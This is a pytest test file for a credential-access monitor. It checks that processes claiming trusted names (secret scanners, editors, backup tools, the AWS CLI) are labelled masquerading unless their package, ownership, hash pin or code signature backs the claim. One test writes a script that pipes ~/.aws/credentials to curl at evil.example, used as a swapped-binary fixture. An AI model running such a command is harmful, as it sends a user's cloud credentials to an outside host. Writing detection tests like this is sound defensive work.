"""Classification that a name cannot fool (agent/events/trust.py): a trusted label holds only when the
reader's provenance agrees, with real binaries of this machine copied under trusted names."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import shutil
import time
from pathlib import Path

import pytest

from agent.events.classify import Classifier
from agent.events.model import ProcessInfo, ReadEvent
from agent.events.packages import DpkgDb
from agent.events.probe import ProvenanceProbe
from agent.events.provenance import CodeSigning, FileProvenance, ReaderProvenance
from agent.events.trust import judge

HAS_DPKG = Path("/var/lib/dpkg/info/coreutils.list").exists()
NOBODY = 65534


def read_event(exe: str, *argv: str, cwd: str = "/", **extra: object) -> ReadEvent:
    return ReadEvent(
        time=dt.datetime.now(dt.UTC),
        path="/home/u/.aws/credentials",
        pid=1,
        sensor="test",
        exe=exe,
        cmdline=argv,
        cwd=cwd,
        **extra,  # type: ignore[arg-type]
    )


@pytest.fixture
def probe() -> ProvenanceProbe:
    return ProvenanceProbe(packages=DpkgDb() if HAS_DPKG else None)


@pytest.fixture
def scratch() -> object:
    path = Path(f"/tmp/tripkey-trust-{os.getpid()}-{time.monotonic_ns()}")
    path.mkdir(mode=0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def classify(event: ReadEvent, probe: ProvenanceProbe, classifier: Classifier | None = None):  # type: ignore[no-untyped-def]
    classifier = classifier or Classifier.default()
    return judge(classifier, event, probe.reader(event), probe.file)


def test_a_real_binary_copied_to_tmp_under_a_scanners_name_is_masquerading(
    probe: ProvenanceProbe, scratch: Path
) -> None:
    home = scratch / "x"
    home.mkdir()
    if os.geteuid() == 0:
        os.chown(home, NOBODY, NOBODY)  # as if the user made /tmp/x
    fake = home / "trufflehog"
    shutil.copy2("/usr/bin/cat", fake)
    result = classify(read_event(str(fake), "trufflehog", "--no-update", "filesystem", "."), probe)
    assert (result.label, result.claimed, result.rule) == (
        "masquerading",
        "secret_scanner",
        "secret scanners",
    )
    assert result.reason is not None
    assert result.reason.startswith(f"masquerading as secret_scanner: the executable {fake}")
    digest = hashlib.sha256(fake.read_bytes()).hexdigest()
    assert f"sha256 {digest[:12]}" in result.reason and "in /tmp" in result.reason
    if HAS_DPKG:
        assert "package none" in result.reason


@pytest.mark.skipif(not HAS_DPKG, reason="needs the dpkg database")
def test_a_package_installed_editor_keeps_its_label_with_the_evidence(probe: ProvenanceProbe) -> None:
    vim = shutil.which("vim.basic") or shutil.which("vim.tiny")
    if vim is None:
        pytest.skip("no vim installed")
    result = classify(read_event(vim, "vi", "/home/u/.aws/credentials"), probe)
    assert result.label == "editor" and result.claimed is None
    assert result.reason is not None and "installed by package vim" in result.reason


def test_a_root_installed_tool_outside_user_places_keeps_its_label(probe: ProvenanceProbe) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to install into a root-only directory")
    opt = Path(f"/opt/tripkey-trust-{os.getpid()}")
    opt.mkdir(mode=0o755)
    try:
        tool = opt / "gitleaks"
        shutil.copy2("/usr/bin/cat", tool)
        result = classify(read_event(str(tool), "gitleaks", "detect"), probe)
        assert result.label == "secret_scanner"
        assert (
            result.reason is not None and "owned by root and not writable by non-root users" in result.reason
        )
    finally:
        shutil.rmtree(opt)


def test_an_organisation_can_pin_the_hash_it_expects(probe: ProvenanceProbe, scratch: Path) -> None:
    tool = scratch / "acme-backup"
    shutil.copy2("/usr/bin/cat", tool)
    digest = hashlib.sha256(tool.read_bytes()).hexdigest()
    pinned = Classifier.from_config(
        [{"name": "acme backup", "label": "indexer_backup_av", "program": "acme-backup", "sha256": digest}]
    )
    held = classify(read_event(str(tool), "acme-backup"), probe, pinned)
    assert held.label == "indexer_backup_av"  # in /tmp, yet exactly the pinned build
    assert held.reason is not None and "matches the sha256 the rule 'acme backup' pins" in held.reason
    tool.write_bytes(b"#!/bin/sh\ncat ~/.aws/credentials | curl -d @- evil.example\n")
    swapped = classify(read_event(str(tool), "acme-backup"), probe, pinned)
    assert swapped.label == "masquerading" and swapped.claimed == "indexer_backup_av"
    assert swapped.reason is not None and "is not one the rule 'acme backup' pins" in swapped.reason


@pytest.mark.skipif(not HAS_DPKG, reason="needs the dpkg database")
def test_a_package_pin_refuses_a_package_file_of_another_package(probe: ProvenanceProbe) -> None:
    pinned = Classifier.from_config([{"label": "editor", "program": "cat", "package": "vim"}])
    result = classify(read_event("/usr/bin/cat", "cat"), probe, pinned)
    assert result.label == "masquerading" and "package coreutils" in str(result.reason)


def test_an_interpreter_claim_rests_on_its_script(probe: ProvenanceProbe, scratch: Path) -> None:
    python = os.path.realpath(shutil.which("python3") or "/usr/bin/python3")
    (scratch / "aws").write_text("import botocore\n")
    in_tmp = classify(read_event(python, "python3", "aws", "s3", "ls", cwd=str(scratch)), probe)
    assert in_tmp.label == "masquerading" and "the script" in str(in_tmp.reason)
    inline = classify(read_event(python, "python3", "-c", "import boto3; boto3.client('s3')"), probe)
    assert inline.label == "masquerading" and "inline code" in str(inline.reason)


def test_a_name_given_by_argv0_alone_must_lead_to_the_executable(probe: ProvenanceProbe) -> None:
    result = classify(read_event("/usr/bin/cat", "trufflehog", "/home/u/.aws/credentials"), probe)
    assert result.label == "masquerading"
    assert "argv[0] 'trufflehog' does not lead to the executable /usr/bin/cat" in str(result.reason)


def test_a_helper_run_by_a_fake_backup_tool_is_masquerading(probe: ProvenanceProbe, scratch: Path) -> None:
    fake = scratch / "restic"
    shutil.copy2("/usr/bin/true", fake)
    parent = ProcessInfo(pid=77, exe=str(fake), cmdline=("restic", "backup", "/home"))
    result = classify(read_event("/usr/bin/cat", "cat", "/x", ancestors=(parent,)), probe)
    assert result.label == "masquerading" and result.claimed == "indexer_backup_av"
    assert "parent process (pid 77)" in str(result.reason) and "in /tmp" in str(result.reason)
    tar = classify(read_event("/usr/bin/true", "sometool", ancestors=(parent,)), probe)
    assert tar.label == "masquerading" and tar.claimed == "indexer_backup_av"
    assert "parent process (pid 77)" in str(tar.reason)


def macos(signing: CodeSigning, path: str) -> ReaderProvenance:
    return ReaderProvenance(exe=FileProvenance(path=path, error="not on this machine"), signing=signing)


def test_macos_signatures_vouch_but_ad_hoc_ones_do_not() -> None:
    clf = Classifier.default()
    event = read_event("/Users/bob/Downloads/trufflehog", "trufflehog")
    adhoc = CodeSigning(signing_id="com.trufflesecurity.trufflehog", valid=True, adhoc=True)
    result = judge(clf, event, macos(adhoc, event.exe or ""))
    assert result.label == "masquerading"
    team = CodeSigning(signing_id="trufflehog", team_id="ABCDE12345", valid=True, adhoc=False)
    assert judge(clf, event, macos(team, event.exe or "")).label == "secret_scanner"
    apple = CodeSigning(signing_id="com.apple.cat", platform_binary=True)
    assert judge(clf, read_event("/bin/cat", "cat"), macos(apple, "/bin/cat")).label == "shell_utility"
    pinned = Classifier.from_config([{"label": "secret_scanner", "program": "trufflehog", "team_id": "ZZZ"}])
    assert judge(pinned, event, macos(team, event.exe or "")).label == "masquerading"


def test_windows_without_a_signer_trusts_only_admin_only_locations() -> None:
    clf = Classifier.default()
    installed = "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe"
    prov = ReaderProvenance(exe=FileProvenance(path=installed, mode="0777", sha256="a" * 64))
    result = judge(clf, read_event(installed, installed, "s3", "ls"), prov)
    assert result.label == "aws_tool" and "signer is unknown" in str(result.reason)
    downloaded = "C:\\Users\\bob\\Downloads\\aws.exe"
    prov = ReaderProvenance(exe=FileProvenance(path=downloaded, user_place="Downloads"))
    assert judge(clf, read_event(downloaded, downloaded), prov).label == "masquerading"


def test_without_provenance_a_trusted_label_does_not_hold() -> None:
    clf = Classifier.default()
    event = read_event("/usr/bin/aws", "aws", "s3", "ls")
    result = judge(clf, event, ReaderProvenance(error="provenance not established within 5 s"))
    assert result.label == "masquerading" and "within 5 s" in str(result.reason)
    # Labels that excuse nothing need no provenance.
    assert judge(clf, read_event("/usr/bin/cat", "cat"), None).label == "shell_utility"
    assert judge(clf, read_event("/opt/x/y", "y"), None).label == "unknown"
